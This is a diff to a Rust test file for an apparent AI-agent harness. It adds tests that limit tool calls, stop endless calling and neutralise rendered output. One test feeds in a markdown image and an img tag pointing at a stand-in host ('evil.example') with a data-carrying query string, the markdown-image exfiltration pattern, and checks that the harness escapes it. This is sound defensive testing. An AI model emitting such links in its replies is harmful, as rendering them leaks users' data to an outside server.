@@ -189,7 +189,7 @@ async fn a_flood_that_is_no_text_is_cut_and_says_so() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_model_that_calls_without_end_is_told_and_stopped() {
-    let calls: Vec<Call> = (0..20).map(|_| call("calm", json!({}))).collect();
+    let calls: Vec<Call> = (0..20).map(|number| call("calm", json!({ "number": number }))).collect();
     let model = ScriptedModel::obedient(move |body| match Asked::new(body).tools().is_empty() {
         false => Reply::Call(calls.clone()),
         true => Reply::say("Enough."),
@@ -203,6 +203,42 @@ async fn a_model_that_calls_without_end_is_told_and_stopped() {
     let results = Asked::new(&requests[1].body).results();
     let refused = results.iter().filter(|result| result.contains("not called: at most 12")).count();
     assert_eq!((results.len(), refused), (20, 8));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_model_that_still_calls_in_its_last_turn_has_not_answered() {
+    let model = ScriptedModel::obedient(|_| Reply::call("submit", json!({}))).await.unwrap();
+    let answer = talk(&stage(&model, "max_turns = 3\n").await, "why?").await.unwrap();
+    assert_eq!(answer.text, "I had to stop before I could answer: 3 turns brought no answer.");
+    assert_eq!(answer.finish, Finish::Length);
+    assert_eq!(model.requests().len(), 3);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_equal_call_is_answered_twice_and_then_refused() {
+    let model = ScriptedModel::obedient(|body| match Asked::new(body).results().len() {
+        0..4 => Reply::call("calm", json!({})),
+        _ => Reply::say("It is calm."),
+    })
+    .await
+    .unwrap();
+    let answer = talk(&stage(&model, "").await, "why?").await.unwrap();
+    assert!(answer.text.starts_with("It is calm."), "{}", answer.text);
+    let results = Asked::new(&model.requests()[4].body).results();
+    let answered = results.iter().filter(|result| result.contains("all is well")).count();
+    let refused = results.iter().filter(|result| result.contains("you have the answer")).count();
+    assert_eq!((answered, refused), (2, 2), "{results:#?}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn nothing_that_a_model_writes_is_loaded_by_itself() {
+    let written = "See ![a](http://evil.example/i.png?d=checkout) and <img src=http://evil.example/j>.";
+    let model = ScriptedModel::obedient(move |_| Reply::say(written)).await.unwrap();
+    let answer = talk(&stage(&model, "").await, "why?").await.unwrap();
+    assert_eq!(
+        answer.text,
+        "See [a](http://evil.example/i.png?d=checkout) and \\<img src=http://evil.example/j>."
+    );
 }
 
 #[tokio::test(flavor = "multi_thread")]
